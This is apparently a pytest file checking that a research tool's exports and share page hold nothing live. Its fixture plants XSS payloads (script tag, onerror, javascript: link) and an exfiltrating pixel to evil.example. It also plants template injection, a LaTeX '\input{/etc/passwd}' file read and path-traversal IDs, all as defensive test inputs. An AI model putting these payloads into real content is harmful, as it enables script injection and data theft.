"""Runs that are passed on: each form read by somebody else's reader, nothing live in any of them, failures refused."""

from __future__ import annotations

import io
import json
import re
import stat
import zipfile
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import docx
import pypdfium2
import pytest
import yaml
from markdown_it import MarkdownIt

from api.conftest import make_corpus
from citewell import Citewell
from support.http_server import Reply, RunningServer, running_server
from support.model_script import says
from support.model_server import ScriptedModelServer

# A page and a note that do all they can to get out of an export.
HOSTILE = {
    "Beacon.md": (
        "---\ntitle: '![x](https://evil.example/t.png) </title><script>alert(1)</script>'\n---\n"
        "The beacon on Skerry was built by Ada Flett in 1871 ![pixel](https://evil.example/p.png?q=secret) "
        "<img src=https://evil.example/i.png onerror=alert(1)> <https://evil.example/auto> "
        "[click](javascript:alert(1)) {{= 7*7 }} \\input{/etc/passwd} \u202edesrever\u202c.\n"
    ),
}
QUESTION = "Who built the beacon on Skerry in 1871?"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[RunningServer, str]]:
    """A server over the notes and the hostile ones, and a run that quotes them."""
    folder = tmp_path_factory.mktemp("hostile")
    data = make_corpus(folder)
    notes = folder / "saved"
    notes.mkdir()
    for name, text in HOSTILE.items():
        (notes / name).write_text(text, "utf-8")
    with Citewell(data) as cw:
        cw.add(notes)
    with running_server(data) as server:
        run_id = server.start_run(QUESTION)
        assert "Ada Flett" in server.finished(run_id)["answer"]
        yield server, run_id


Hostile = tuple[RunningServer, str]


def exported(hostile: Hostile, form: str) -> Reply:
    server, run_id = hostile
    reply = server.get(f"/api/runs/{run_id}/export?format={form}")
    assert reply.status == 200, reply.body
    return reply


@pytest.mark.attack("W9")
@pytest.mark.parametrize("form", ["md", "json", "zip", "bibtex", "ris", "docx", "pdf"])
def test_every_export_is_a_file_and_never_a_page(hostile: Hostile, form: str) -> None:
    reply = exported(hostile, form)
    assert re.fullmatch(r'attachment; filename="[\w.-]+"', reply.headers["content-disposition"])
    assert reply.headers["x-content-type-options"] == "nosniff"
    assert "html" not in reply.headers["content-type"]


@pytest.mark.attack("P4")
@pytest.mark.attack("W7")
def test_markdown_has_front_matter_wikilinks_and_nothing_live(hostile: Hostile) -> None:
    text = exported(hostile, "md").body.decode()
    _, front, body = text.split("---\n", 2)
    facts = yaml.safe_load(front)
    assert (facts["title"], facts["answer_status"], facts["tags"]) == (QUESTION, "ok", ["citewell"])
    assert facts["sources"] == ["note:saved/beacon"]
    assert "[[Beacon]]" in body
    assert "Ada Flett" in body
    rendered = MarkdownIt("commonmark", {"html": True, "linkify": False}).render(body)
    assert not re.search(r"<(img|script|a|iframe)\b", rendered), rendered


@pytest.mark.attack("W6")
@pytest.mark.attack("W7")
def test_the_page_to_share_shows_the_answer_and_can_do_nothing(hostile: Hostile) -> None:
    server, run_id = hostile
    reply = server.get(f"/api/runs/{run_id}/share")
    page = reply.body.decode()
    assert reply.headers["content-type"].startswith("text/html")
    assert "sandbox" in reply.headers["content-security-policy"]
    assert "'unsafe-inline'" not in reply.headers["content-security-policy"]
    tags = _Tags()
    tags.feed(page)
    assert set(tags.names) <= {
        *("html", "head", "meta", "title", "style", "body", "main", "h1", "h2", "p", "sup", "small", "blockquote"),
        "footer",
    }
    assert not [name for name in tags.attributes if name.startswith("on") or name in ("src", "href", "style")]
    assert "Ada Flett" in page
    assert "\u202e" not in page
    for internal in (run_id, "note:saved", "Beacon.md", str(server.data), "research-runs", "prompt"):
        assert internal not in page, internal


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.names: list[str] = []
        self.attributes: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.append(tag)
        self.attributes += [name for name, _ in attrs]


def test_bibliographies_have_each_source_once(hostile: Hostile) -> None:
    bibtex = exported(hostile, "bibtex").body.decode()
    assert bibtex.count("@misc{") == 1
    assert bibtex.count("{") - bibtex.count(r"\{") == bibtex.count("}") - bibtex.count(r"\}")
    assert r"\input" not in bibtex
    ris = exported(hostile, "ris").body.decode()
    records = [line[:6] for line in ris.split("\r\n") if line]
    assert records == ["TY  - ", "TI  - ", "ID  - ", "N1  - ", "ER  - "]


def test_word_opens_it_and_finds_no_link(hostile: Hostile) -> None:
    content = exported(hostile, "docx").body
    document = docx.Document(io.BytesIO(content))
    text = "\n".join(paragraph.text for paragraph in document.paragraphs)
    assert QUESTION in text
    assert "Ada Flett" in text
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        relations = archive.read("word/_rels/document.xml.rels").decode()
        assert "hyperlink" not in archive.read("word/document.xml").decode().lower()
    assert 'TargetMode="External"' not in relations


def test_json_is_the_document_of_the_run(hostile: Hostile) -> None:
    server, run_id = hostile
    assert json.loads(exported(hostile, "json").body) == server.get(f"/api/runs/{run_id}").json["result"]


def test_a_pdf_reads_back_and_holds_nothing_live(hostile: Hostile) -> None:
    server, run_id = hostile
    content = exported(hostile, "pdf").body
    text = " ".join(pdf_text(content).split())
    assert QUESTION in text
    assert "Ada Flett" in text
    assert "![pixel](https://evil.example/p.png?q=secret)" in text, "it is shown as it is written"
    assert not re.search(rb"/(URI|JavaScript|Launch|AA|OpenAction|EmbeddedFile)\b", content)
    assert exported(hostile, "pdf").body == content
    assert "pdf" in server.get("/api/capabilities").json["exports"]
    assert server.get(f"/api/runs/{run_id}/export?format=exe").status == 422


def pdf_text(content: bytes) -> str:
    document: Any = pypdfium2.PdfDocument(content)  # type: ignore[no-untyped-call]
    return "\n".join(page.get_textpage().get_text_range() for page in document)


def test_an_archive_is_imported_elsewhere_and_replays_there(hostile: Hostile, server: RunningServer) -> None:
    _, run_id = hostile
    archive = exported(hostile, "zip").body
    kind = {"Content-Type": "application/zip"}
    reply = server.post("/api/runs/import", archive, headers=kind)
    assert (reply.status, reply.json["run_id"], reply.json["status"]) == (201, run_id, "done")
    assert server.post(f"/api/runs/{run_id}/replay", {}).json["identical"]
    assert "Ada Flett" in server.finished(run_id)["answer"]
    assert server.get(f"/api/runs/{run_id}/export?format=zip").body == archive
    again = server.post("/api/runs/import", archive, headers=kind)
    assert (again.status, again.code) == (409, "conflict")
    for damaged in (
        b"",
        b"PK",
        archive[:-40],
        archive.replace(b"run.json", b"run.jsox"),
        archive[:200] + b"x" + archive[201:],
    ):
        refused = server.post("/api/runs/import", damaged, headers=kind)
        assert (refused.status, refused.code) == (400, "bad_input")


def test_a_run_that_failed_verification_is_not_passed_on(data: Path) -> None:
    with (
        ScriptedModelServer(says("The lamp was lit by Nobody [99.9].")) as model,
        running_server(data, CITEWELL_MODEL="openai:test", CITEWELL_MODEL_BASE_URL=model.base_url) as server,
    ):
        run_id = server.start_run("Who lit the lamp?")
        document = server.finished(run_id)
        assert (document["stop_reason"], document["answer"]) == ("verification_failed", "")
        for path in (
            "share",
            *(f"export?format={form}" for form in ("md", "json", "zip", "bibtex", "ris", "docx", "pdf")),
        ):
            reply = server.get(f"/api/runs/{run_id}/{path}")
            assert (reply.status, reply.code) == (409, "conflict"), path


def test_a_conversation_is_saved_only_when_asked_and_for_nobody_else_to_read(server: RunningServer) -> None:
    run_id = server.start_run()
    server.finished(run_id)
    folder = server.data / "chat-transcripts"
    turn = {"question_id": "q1", "question": "Who lit the lamp?", "run_id": run_id, "answer_status": "ok"}
    saved: dict[str, Any] = {"schema_version": "chat_transcript.v1", "conversation_id": "c-42", "turns": [turn]}
    assert server.post("/api/transcripts", saved).status == 201
    (listed,) = (one for one in server.get("/api/transcripts").json["transcripts"] if one["conversation_id"] == "c-42")
    assert listed["turns"][0]["run_id"] == run_id
    assert stat.S_IMODE((folder / "c-42.json").stat().st_mode) == 0o600
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    for bad in ("../evil", "a/b", "", "x" * 101, "a.b", "nul\0"):
        assert server.post("/api/transcripts", {**saved, "conversation_id": bad}).status in (400, 422), bad
    assert sorted(path.name for path in folder.iterdir()) == ["c-42.json"]
    assert server.post("/api/runs/import", {**saved, "conversation_id": "c-43"}).status == 201
